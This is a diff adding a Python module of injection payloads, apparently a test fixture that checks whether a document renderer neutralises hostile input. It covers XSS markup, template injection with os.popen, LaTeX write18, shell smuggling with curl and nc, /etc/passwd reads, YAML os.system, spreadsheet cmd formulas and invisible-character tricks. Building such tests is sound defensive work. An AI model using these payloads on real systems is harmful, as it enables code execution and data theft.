@@ -1,0 +1,186 @@
+"""The payloads: texts that would do something, were they read as anything but text.
+
+``MARK`` stands for a word that names the place where a payload is planted, ``ADDRESS`` for an address on the loopback
+at which somebody listens. A payload that runs calls ``live``; one that is fetched reaches the address.
+"""
+
+from __future__ import annotations
+
+HTML = (
+    "<script>live('MARK')</script>",
+    "</script><script>live('MARK')//",
+    "<ScRiPt src=ADDRESS></sCrIpT>",
+    "<script/x>live('MARK')</script/x>",
+    "<img src=x onerror=live('MARK')>",
+    '"><img src="ADDRESS">',
+    "'><svg onload=live('MARK')>",
+    '<svg><script href="ADDRESS"></script></svg>',
+    "<svg><animate onbegin=live('MARK') attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:live('MARK')\"><text>open</text></a></svg>",
+    '<svg><use href="ADDRESS#x"/><image href="ADDRESS"/></svg>',
+    "<iframe src=\"javascript:parent.live('MARK')\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.live('MARK')</script>\"></iframe>",
+    '<style>@import url("ADDRESS");</style>MARK',
+    "</style><img src=ADDRESS>",
+    "<style>*{display:none;background:url(ADDRESS)}</style>",
+    '<meta http-equiv="refresh" content="0;url=ADDRESS">',
+    '<meta http-equiv="Content-Security-Policy" content="default-src *">MARK',
+    '<base href="ADDRESS/">',
+    "<link rel=stylesheet href=ADDRESS>",
+    '<link rel="prefetch preload dns-prefetch" as="image" href="ADDRESS">',
+    "<body onload=live('MARK')>",
+    "<a href=\"javascript:live('MARK')\">open</a>",
+    "javascript:live('MARK')",
+    "<details open ontoggle=live('MARK')>",
+    "<input autofocus onfocus=live('MARK')>",
+    "<video src=ADDRESS autoplay onerror=live('MARK')></video>",
+    '<object data="ADDRESS"></object><embed src="ADDRESS">',
+    '<form action="ADDRESS"><button autofocus onfocus="this.form.submit()">MARK</button></form>',
+    "<marquee onstart=live('MARK')>MARK</marquee>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=live('MARK')>\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=live('MARK')>\"></noscript>",
+    "<!--><img src=x onerror=live('MARK')>-->",
+    "--><script>live('MARK')</script><!--",
+    "<![CDATA[<script>live('MARK')</script>]]>",
+    "]]><script>live('MARK')</script>",
+    "<?xml-stylesheet href='ADDRESS'?><?php system('MARK') ?>",
+    '<!DOCTYPE x [<!ENTITY e SYSTEM "ADDRESS">]>&e;MARK',
+    "&lt;script&gt;live('MARK')&lt;/script&gt;",
+    "&#60;script&#62;live('MARK')&#60;/script&#62;",
+    "&#x3c;img src=x onerror=live(&quot;MARK&quot;)&#x3e",
+    "&amp;lt;b&amp;gt;MARK&ampx&notit;&copy",
+    "&quot; onmouseover=&quot;live('MARK')",
+    '" onmouseover="live(\'MARK\')" x="',
+    "' autofocus onfocus='live(\"MARK\")",
+    "` onmouseover=`live('MARK')",
+    "</title><script>live('MARK')</script>",
+    "</caption></table></section></main></body><h1>MARK</h1>",
+    "<table><tr><td>MARK</div></td></figure>",
+    "<b><i>MARK</b></i><u",
+    '<div style="position:fixed;inset:0;background:url(ADDRESS)">MARK</div>',
+    "<p style=\"width:expression(live('MARK'));behavior:url(ADDRESS)\">",
+    "data:text/html,<script>live('MARK')</script>",
+    '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">MARK</a>',
+    "<template><script>live('MARK')</script></template>",
+    "<x-tag id=main class=skip tabindex=1 onfocus=live('MARK')>",
+    "\\u003cscript\\u003elive('MARK')\\x3c/script\\x3e",
+    "＜script＞live(＇MARK＇)＜/script＞",
+    "<sсript>MARK раураl.com аpple</sсript>",
+)
+TEMPLATES = (
+    "{{7*7}} {{ MARK }}",
+    "{% import os %}{{ os.popen('MARK') }}{% endraw %}",
+    "{{ config.__class__.__init__.__globals__['MARK'] }}",
+    "${7*7} #{7*7} <%= 7*7 %> MARK",
+    "{0} {text} {zh} {MARK.__class__} {",
+    "%s %(MARK)s %n %%",
+    "<@fonts@> MARK <@css@>",
+    "__import__('os').system('MARK')",
+    "{# MARK #}{% include '/etc/passwd' %}",
+)
+TYPST = (
+    '#import "MARK.typ": *',
+    "#eval(\"panic('MARK')\")",
+    '#read("/etc/passwd") MARK',
+    '#image("ADDRESS")',
+    '#link("ADDRESS")[MARK]',
+    "$ x^2 + MARK $",
+    "@ref-MARK <label-MARK> @preview/x:0.1.0",
+    "*MARK* _MARK_ = MARK",
+    "\\u{41} MARK \\",
+    "// MARK",
+    "/* MARK */ */",
+    "`MARK` ```typ #panic() ```",
+    '] #panic("MARK") [ }) (',
+    '"+panic("MARK")+"',
+    "MARK~---...''\"\"-? 1/2 -> <=",
+    "#set text(0pt) MARK #show: none",
+)
+LATEX = (
+    "\\input{/etc/passwd} MARK",
+    "\\immediate\\write18{touch MARK}",
+    "$$\\frac{MARK}{0}$$",
+    "\\end{document} MARK",
+    "MARK % $\\alpha_{MARK}$ $\\undefined{",
+    "\\href{ADDRESS}{MARK} \\includegraphics{MARK}",
+)
+SHELL = (
+    "$(touch MARK)",
+    "`touch MARK`",
+    "; touch MARK #",
+    "| nc 127.0.0.1 9 < MARK",
+    "&& curl ADDRESS",
+    "$HOME ${USER} %USERNAME% ~ $PWD MARK",
+    "'; echo \"MARK",
+    "../../../../etc/passwd MARK C:\\MARK\\..",
+)
+CELLS = (
+    "=cmd|'/C calc MARK'!A0",
+    '=HYPERLINK("ADDRESS","MARK")',
+    '=IMPORTXML("ADDRESS","//a")',
+    "+1+1+cmd|' /C MARK'!A0",
+    "-2+3+cmd|' /C MARK'!A0",
+    "@SUM(1+1)*cmd|' /C MARK'!A0",
+    '","=1+1","MARK',
+    "＝1+1 MARK",
+    "\n=1+MARK",
+)
+MARKDOWN = (
+    "![MARK](ADDRESS)",
+    "[MARK](ADDRESS) <ADDRESS>",
+    "[MARK](javascript:live('MARK'))",
+    "# MARK\n---\n> <b>MARK</b>",
+    "[MARK]: ADDRESS\n\n![x][MARK]",
+)
+DATA = (
+    "!!python/object/apply:os.system ['MARK']",
+    "*MARK &MARK {a: [b, - c]}: |",
+    "--- MARK\n...\n--- #",
+    "first line MARK\n\n<script>live('MARK')</script>\nlast line",
+    "null NaN -Infinity true 0x10 1e999 MARK",
+    "MARK" + "w" * 700,
+    "MARK" + "字" * 500,
+    "MARK" + "<" * 300,
+)
+KINDS = {
+    "html": HTML,
+    "template": TEMPLATES,
+    "typst": TYPST,
+    "latex": LATEX,
+    "shell": SHELL,
+    "spreadsheet": CELLS,
+    "markdown": MARKDOWN,
+    "data": DATA,
+}
+ALL: tuple[str, ...] = tuple(text for kind in KINDS.values() for text in kind)
+
+# What no reader sees, or what the shipped font cannot draw: a finding stops it before anything runs.
+REFUSED = {
+    "NUL": "a\x00b",
+    "bell": "a\x07b",
+    "escape sequence": "a\x1b]8;;http://127.0.0.1/\x07b",
+    "carriage return": "a\r=1+1",
+    "tab": "\t=1+1",
+    "delete": "a\x7fb",
+    "C1 control": "a\x9bb",
+    "right-to-left override": "a\u202egnp.exe",
+    "isolate": "a\u2066b\u2069",
+    "zero-width space": "a\u200bb",
+    "zero-width joiner": "a\u200db",
+    "soft hyphen": "a\xadb",
+    "byte-order mark": "a\ufeffb",
+    "line separator": "a\u2028b",
+    "tag characters": "a\U000e0041b",
+    "Arabic letter mark": "a\u061cb",
+    "variation selector": "a\ufe0fb",
+    "combining marks": "a" + "\u0336" * 40,
+    "Hebrew": "\u05d0\u05d1",
+    "emoji": "\U0001f4a3",
+    "private use": "\ue000",
+    "noncharacter": "a\uffffb",
+}
+
+
+def filled(payload: str, mark: str, address: str) -> str:
+    """The payload as it is planted at the place that `mark` names."""
+    return payload.replace("MARK", mark).replace("ADDRESS", f"{address}/{mark}")
